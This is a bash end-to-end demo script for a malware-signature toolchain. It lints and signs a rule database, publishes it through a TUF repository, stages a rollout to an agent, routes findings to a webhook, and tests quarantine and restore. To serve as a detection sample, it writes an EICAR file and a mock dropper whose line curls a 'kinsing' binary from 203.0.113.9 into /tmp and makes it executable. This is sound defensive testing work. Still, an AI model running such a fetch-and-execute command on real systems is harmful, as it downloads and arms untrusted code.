#!/usr/bin/env bash
# The main job, end to end on embedded defaults: lint rules-src/, build a signed database with a
# throwaway key, create a TUF repository in a local directory and publish the database to it,
# serve it with vigil-server on 127.0.0.1, install it with vigil-update (TUF-verified, loaded and
# smoke-tested before activation), scan sample files with vigil-scan; start the agent
# (vigil-agent: scan service, updates, scheduled scans; a canary host); then add a rule, publish
# version 2 (with a delta from version 1) as a staged rollout (canary first), have the agent take
# the delta and hot-swap its engine while another host is held back, advance the rollout on the
# fleet's check-ins to 100%, detect the new sample through vigil-scan --daemon, run the scheduled
# scan, whose findings reach a webhook receiver (signed, verified there) through the durable
# outbox, quarantine the new sample and restore it, print the fleet, copy the repository to an
# offline mirror, and stop everything.
# Everything lands in target/demo/.
set -euo pipefail
cd "$(dirname "$0")/.."

# The same build as the README's test command (`cargo test --workspace --release --locked`):
# a `-p` subset or a plain `cargo build` resolves other features (dev-dependencies are not
# unified) and would compile yara-x and the AWS SDK a second time. The binaries come with it.
cargo test --workspace --release --locked --no-run
# Wherever cargo builds (CARGO_TARGET_DIR, a config file): ask it.
build_dir=$(cargo metadata --format-version 1 --no-deps --locked | sed -n 's/.*"target_directory":"\([^"]*\)".*/\1/p')
[ -n "$build_dir" ] || { echo "cannot find cargo's target directory" >&2; exit 1; }
bin=$build_dir/release/vigil-build
server=$build_dir/release/vigil-server
scan=$build_dir/release/vigil-scan
update=$build_dir/release/vigil-update
agent=$build_dir/release/vigil-agent
receiver=$build_dir/release/vigil-webhook-receiver
work=target/demo
rm -rf "$work"
mkdir -p "$work"
# Reproducible builds: the database records the commit time, not the wall clock.
export SOURCE_DATE_EPOCH="${SOURCE_DATE_EPOCH:-$(git log -1 --format=%ct 2>/dev/null || echo 0)}"

# Runs a command that must exit with the given code (vigil-scan exits 1 when it finds something
# and 0 when not, as clamscan does; the release gate exits 1 or 5 when it refuses).
expect_rc() {
  local want=$1 rc=0; shift
  "$@" || rc=$?
  [ "$rc" -eq "$want" ] || { echo "expected exit $want, got $rc: $*" >&2; exit 1; }
}

echo "== keygen (throwaway demo key; real keys: see keys/README.md)"
"$bin" keygen -o "$work/keys"

echo "== lint rules-src/"
"$bin" lint --deny-warnings rules-src

echo "== release gate 1: per-signature tests (each signature's positive and near-miss samples)"
"$bin" test --require-coverage rules-src

echo "== release gate 2: goodware check (false positives, per-rule cost) on a small goodware set"
mkdir -p "$work/goodware"
for f in /usr/bin/ls /usr/bin/cat /usr/bin/grep /usr/bin/sed /usr/bin/tar /usr/bin/gzip \
         /usr/bin/bash /usr/bin/env /etc/services /etc/protocols /etc/passwd; do
  if [ -f "$f" ]; then cp "$f" "$work/goodware/"; fi
done
"$bin" check --rules rules-src --goodware "$work/goodware" --progress never
echo "-- a planted false-positive rule (it matches every ELF file): the gate catches it (exit 1)"
cp -r rules-src "$work/rules-planted"
cat > "$work/rules-planted/yara/planted_every_elf.yar" <<'RULE'
rule Planted_Every_Elf_1
{
    meta:
        severity = "high"
        description = "planted false positive: matches every ELF file"
        author = "vigil demo"
        reference = "https://example.invalid/planted"
        date = "2026-12-01"
    condition:
        uint32(0) == 0x464c457f
}
RULE
expect_rc 1 "$bin" check --rules "$work/rules-planted" --goodware "$work/goodware" --progress never

echo "== build version 1"
"$bin" build --rules rules-src --key "$work/keys/vigil.key" --version 1 -o "$work/vigil-1.vdb"
"$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-1.vdb"
"$bin" info "$work/vigil-1.vdb"

echo "== create a TUF repository (directory) and publish version 1"
"$bin" repo init --repo "$work/repo" --tuf-keys "$work/tuf"
"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-1.vdb" \
  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub"

echo "== publish runs the gate: a release carrying the planted rule is refused (exit 5), nothing written"
"$bin" build --rules "$work/rules-planted" --key "$work/keys/vigil.key" --version 2 -o "$work/vigil-planted.vdb"
repo_state() { (cd "$work/repo" && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
before=$(repo_state)
expect_rc 5 "$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-planted.vdb" \
  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub"
[ "$(repo_state)" = "$before" ] || { echo "a refused publish changed the repository" >&2; exit 1; }
echo "-- the repository is byte-identical"

echo "== serve it with vigil-server on 127.0.0.1 (fleet check-ins kept in $work/server-state)"
port_free() { ! (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
port=$((20000 + RANDOM % 20000))
until port_free "$port"; do port=$((20000 + RANDOM % 20000)); done
# The fleet's reads (console, /api/fleet, health) need an admin token; the server keeps only
# its hash.
(umask 077; od -An -N16 -tx1 /dev/urandom | tr -d ' \n' > "$work/admin.token")
"$server" hash-token < "$work/admin.token" > "$work/admin-tokens"
"$server" --repo "$work/repo" --listen "127.0.0.1:$port" \
  --state-dir "$work/server-state" --admin-tokens "$work/admin-tokens" > "$work/server.log" 2>&1 &
server_pid=$!
agent_pid=
hook_pid=
trap 'kill "$server_pid" $agent_pid $hook_pid 2>/dev/null || true' EXIT
for _ in $(seq 100); do port_free "$port" || break; sleep 0.1; done
url="http://127.0.0.1:$port/"

echo "== a webhook receiver for findings (it checks every delivery's Standard Webhooks signature)"
# The shared secret: generated here, read from a file by the agent (never inline in a config).
printf 'whsec_%s\n' "$(head -c 24 /dev/urandom | base64)" > "$work/webhook.secret"
chmod 600 "$work/webhook.secret"
hook_port=$((20000 + RANDOM % 20000))
until port_free "$hook_port" && [ "$hook_port" != "$port" ]; do hook_port=$((20000 + RANDOM % 20000)); done
"$receiver" --listen "127.0.0.1:$hook_port" --secret-file "$work/webhook.secret" \
  --log "$work/webhook-received.jsonl" > "$work/webhook.log" 2>&1 &
hook_pid=$!
for _ in $(seq 100); do grep -qs listening "$work/webhook.log" && break; sleep 0.1; done
grep listening "$work/webhook.log"

echo "== vigil-update: install version 1 on this 'instance' (config: $work/client/vigil.toml)"
mkdir -p "$work/client" "$work/samples"
here=$(pwd)
cat > "$work/client/vigil.toml" <<EOF
mirrors = ["$url"]
database_dir = "db"
trusted_root = "$here/$work/tuf/root.json"
pubkeys = ["$here/$work/keys/vigil.pub"]
checks_per_day = 24
# This host is a canary: it takes a staged release in its first stage.
ring = "canary"
instance_id = "i-0demo000000canary"
[agent]
socket = "$here/$work/client/vigil.sock"
scan_threads = 2
[[agent.scheduled]]
name = "nightly"
cron = "0 3 * * *"
paths = ["$here/$work/samples"]
# The run log: each run's summary and unreadable files. Findings go to [[outputs]].
output = "scans.jsonl"
# Findings: this host's identity (off EC2, so no instance metadata lookup), and where they go.
[findings]
hostname = "demo-canary"
imds = false
[[outputs]]
type = "webhook"
name = "soc"
url = "http://127.0.0.1:$hook_port/vigil"
secret_file = "$here/$work/webhook.secret"
[[outputs]]
type = "jsonl"
path = "findings.jsonl"
# Quarantine: where vigil-scan --quarantine may move files (never the protected system paths),
# and at most 5 per scan before one CRITICAL mass-detection finding instead.
[quarantine]
dir = "$here/$work/client/quarantine"
paths = ["$here/$work/samples"]
max_per_scan = 5
EOF
"$update" --config "$work/client/vigil.toml"
cmp "$work/vigil-1.vdb" "$work/client/db/vigil.vdb"
echo "-- and on a second instance, web-2: an ordinary host (no ring; its rollout bucket is 68)"
mkdir -p "$work/web-2"
cat > "$work/web-2/vigil.toml" <<EOF
mirrors = ["$url"]
database_dir = "db"
trusted_root = "$here/$work/tuf/root.json"
pubkeys = ["$here/$work/keys/vigil.pub"]
client_id = "web-2"
EOF
"$update" --config "$work/web-2/vigil.toml"
# web-2 checks for an update and must be held back by the rollout (exit 1, up to date): shows why.
web2_held() {
  local rc=0
  "$update" --config "$work/web-2/vigil.toml" 2> "$work/web-2/update.log" || rc=$?
  [ "$rc" -eq 1 ] || { cat "$work/web-2/update.log" >&2; echo "web-2: expected exit 1, got $rc" >&2; exit 1; }
  grep -o 'held: [^"]*' "$work/web-2/update.log" | head -1
}

echo "== scan samples/ and EICAR with the installed version 1"
# EICAR is written here rather than committed, so no antivirus flags the repository.
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/samples/eicar.com"
printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/samples/dropper.sh"
expect_rc 1 "$scan" -d "$work/client/db/vigil.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/samples/eicar.com"

echo "== start the agent: vigil-agent (scan service on $work/client/vigil.sock)"
"$agent" --config "$work/client/vigil.toml" 2> "$work/client/agent.log" &
agent_pid=$!
sock="$work/client/vigil.sock"
for _ in $(seq 300); do [ -S "$sock" ] && break; sleep 0.1; done
expect_rc 1 "$scan" --daemon --socket "$sock" "$work/samples/eicar.com"
echo "-- version 1 does not know the dropper yet:"
expect_rc 0 "$scan" --daemon --socket "$sock" --no-summary "$work/samples/dropper.sh"

echo "== add a rule, build version 2, publish it as a staged rollout: canary, then 10% for 6 h, then 100%"
cp -r rules-src "$work/rules-v2"
cat > "$work/rules-v2/yara/linux_miner_kinsing.yar" <<'RULE'
// Kinsing: a Go miner dropper that spreads through exposed Docker and Redis.
rule Linux_Miner_Kinsing_1
{
    meta:
        severity = "high"
        description = "Kinsing cryptominer dropper"
        author = "vigil rules team"
        reference = "https://attack.mitre.org/software/S0599/"
        date = "2026-11-25"
    strings:
        $a = "kinsing" nocase
        $b = "kdevtmpfsi"
        $c = "/tmp/kdevtmpfsi"
    condition:
        2 of them
}
RULE
"$bin" build --rules "$work/rules-v2" --key "$work/keys/vigil.key" --version 2 -o "$work/vigil-2.vdb"
"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-2.vdb" \
  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub" --stages canary,10%:6h,100%
# vigil-server keeps timestamp.json in memory for up to a second (metadata_cache_ms), like a CDN.
sleep 1.5

echo "== the agent (a canary) checks now (SIGUSR1; on its own it checks checks_per_day times a day)"
kill -USR1 "$agent_pid"
for _ in $(seq 600); do grep -q "engine hot-swapped" "$work/client/agent.log" && break; sleep 0.1; done
grep -q "engine hot-swapped" "$work/client/agent.log" || { cat "$work/client/agent.log" >&2; exit 1; }
grep "database updated" "$work/client/agent.log" | tail -1
cmp "$work/vigil-2.vdb" "$work/client/db/vigil.vdb"
cmp "$work/vigil-1.vdb" "$work/client/db/vigil.lkg.vdb"
echo "== web-2 checks: held back while version 2 is at its canary stage"
web2_held
fleet=(--fleet "$url" --admin-token-file "$work/admin.token")
status=("$bin" rollout status --url "$url" --root "$work/tuf/root.json" "${fleet[@]}")
# The canary's check-in (it runs version 2) reaches the fleet store.
# (grep without -q reads to the end: -q would close the pipe at its first match, under the
# status command still printing.)
for _ in $(seq 100); do "${status[@]}" | grep "v2 " > /dev/null && break; sleep 0.1; done
"${status[@]}"

echo "== advance the rollout (CI runs this on a schedule): the fleet's health decides, CI signs"
# --force: do not wait out the stage's hold; --min-reports 1: this fleet has one canary.
adv=("$bin" rollout advance --repo "$work/repo" --tuf-keys "$work/tuf" "${fleet[@]}" --min-reports 1 --force)
"${adv[@]}"
sleep 1.5
echo "-- at 10%, web-2 (bucket 68) is still held"
web2_held
echo "-- the canary checks again (SIGUSR1; on its own, checks_per_day times a day) and reports from the new stage"
checks() { grep -c "database is up to date" "$work/client/agent.log" || true; }
n=$(checks)
kill -USR1 "$agent_pid"
# Its check-in is sent before it logs the check.
for _ in $(seq 300); do [ "$(checks)" -gt "$n" ] && break; sleep 0.1; done
"${adv[@]}"
sleep 1.5
"${status[@]}" | grep "100% (stage 2 of canary,10%:6h,100%), complete" > /dev/null \
  || { "${status[@]}" >&2; echo "the rollout did not reach 100%" >&2; exit 1; }
echo "-- at 100%, web-2 takes version 2 (by delta)"
"$update" --config "$work/web-2/vigil.toml"
cmp "$work/vigil-2.vdb" "$work/web-2/db/vigil.vdb"

echo "== vigil-scan --daemon with the hot-swapped version 2: the new rule finds the dropper"
expect_rc 1 "$scan" --daemon --socket "$sock" --json --no-summary "$work/samples/dropper.sh"

echo "== inside containers: the dropper in an upload's zip, EICAR in a log archive, named file!member"
mkdir -p "$work/containers"
if command -v python3 > /dev/null; then
  python3 -m zipfile -c "$work/containers/upload.zip" "$work/samples/dropper.sh"
else
  tar czf "$work/containers/upload.zip" -C "$work/samples" dropper.sh   # (a tar.gz by content)
fi
tar czf "$work/containers/logs.tar.gz" -C "$work/samples" eicar.com
expect_rc 1 "$scan" -d "$work/client/db/vigil.vdb" --pubkey "$work/keys/vigil.pub" --no-summary \
  "$work/containers/upload.zip" "$work/containers/logs.tar.gz" | tee "$work/containers.out"
grep -q 'upload.zip!dropper.sh: ' "$work/containers.out" || { echo "no finding inside the zip" >&2; exit 1; }

echo "== a disk image: ext4 built with mkfs.ext4 -d (no root, no mount), scanned with --image"
mkfs=$(command -v mkfs.ext4 || ls /sbin/mkfs.ext4 /usr/sbin/mkfs.ext4 2> /dev/null | head -1 || true)
if [ -n "$mkfs" ]; then
  mkdir -p "$work/rootfs/home/app/uploads" "$work/rootfs/etc"
  cp "$work/samples/dropper.sh" "$work/rootfs/home/app/uploads/"
  cp "$work/containers/logs.tar.gz" "$work/rootfs/home/app/"
  echo "ok" > "$work/rootfs/etc/motd"
  "$mkfs" -q -F -d "$work/rootfs" "$work/disk.img" 16M
  expect_rc 1 "$scan" -d "$work/client/db/vigil.vdb" --pubkey "$work/keys/vigil.pub" --image "$work/disk.img"
else
  echo "-- mkfs.ext4 is not installed (Debian: e2fsprogs): the image step is skipped"
fi

echo "== run the scheduled scan now (SIGUSR2): findings go through the outbox to the webhook"
kill -USR2 "$agent_pid"
for _ in $(seq 300); do grep -qs '"summary"' "$work/client/scans.jsonl" && break; sleep 0.1; done
grep '"summary"' "$work/client/scans.jsonl"
for _ in $(seq 300); do grep -qs 'eicar.com' "$work/webhook.log" && break; sleep 0.1; done
echo "-- what the receiver verified (webhook-id, event, severity, signature, file, host, action):"
grep '^verified' "$work/webhook.log" || { cat "$work/webhook.log" "$work/client/agent.log" >&2; exit 1; }
grep -q 'eicar.com' "$work/webhook.log" || { echo "the scheduled scan's EICAR finding did not arrive" >&2; exit 1; }
if grep -q '^REJECTED' "$work/webhook.log"; then echo "a delivery failed verification" >&2; exit 1; fi
"$agent" --config "$work/client/vigil.toml" outbox status

echo "== quarantine the new sample (vigil-scan --config --quarantine), then restore it"
cp -p "$work/samples/dropper.sh" "$work/dropper.orig"
chmod 0640 "$work/samples/dropper.sh" "$work/dropper.orig"
touch -d '2026-01-02 03:04:05' "$work/samples/dropper.sh" "$work/dropper.orig"
expect_rc 1 "$scan" --config "$work/client/vigil.toml" --quarantine --no-summary "$work/samples/dropper.sh"
[ ! -e "$work/samples/dropper.sh" ] || { echo "dropper.sh was not quarantined" >&2; exit 1; }
qdir="$work/client/quarantine"
"$scan" quarantine list --dir "$qdir"
qid=$("$scan" quarantine list --json --dir "$qdir" | sed -n 's/.*"id":"\([0-9a-f]*\)".*/\1/p' | head -1)
"$scan" quarantine restore "$qid" --dir "$qdir"
cmp "$work/samples/dropper.sh" "$work/dropper.orig"
[ "$(stat -c '%a %u %Y' "$work/samples/dropper.sh")" = "$(stat -c '%a %u %Y' "$work/dropper.orig")" ] \
  || { echo "restore did not keep mode, owner and mtime" >&2; exit 1; }
echo "-- restored: same bytes, mode $(stat -c %a "$work/samples/dropper.sh"), owner and mtime"

echo "== the fleet: releases and stages, versions and shares, stale hosts, failures"
"${status[@]}"
echo "-- while the server runs, the fleet console is at ${url}fleet (any user name; the password is"
echo "   the token in $work/admin.token), JSON at ${url}api/fleet, the compliance CSV at ${url}fleet/compliance.csv"

echo "== offline mirror of the served repository (for an air-gapped network)"
"$update" mirror --from "$url" --to "$work/mirror" --root "$work/tuf/root.json"

echo "== stop the agent and the server (SIGTERM: graceful)"
kill -TERM "$agent_pid"
wait "$agent_pid"
kill -TERM "$server_pid"
wait "$server_pid"
kill -TERM "$hook_pid"
wait "$hook_pid" 2>/dev/null || true
trap - EXIT
line=$(grep "database updated" "$work/client/agent.log" | tail -1)
delta=$(printf '%s' "$line" | sed 's/.*target_bytes=\([0-9]*\).*/\1/')
meta=$(printf '%s' "$line" | sed 's/.*metadata_bytes=\([0-9]*\).*/\1/')
echo "demo OK: update 1 -> 2 by delta: $delta bytes of delta + $meta bytes of metadata, for a $(wc -c < "$work/vigil-2.vdb")-byte database"
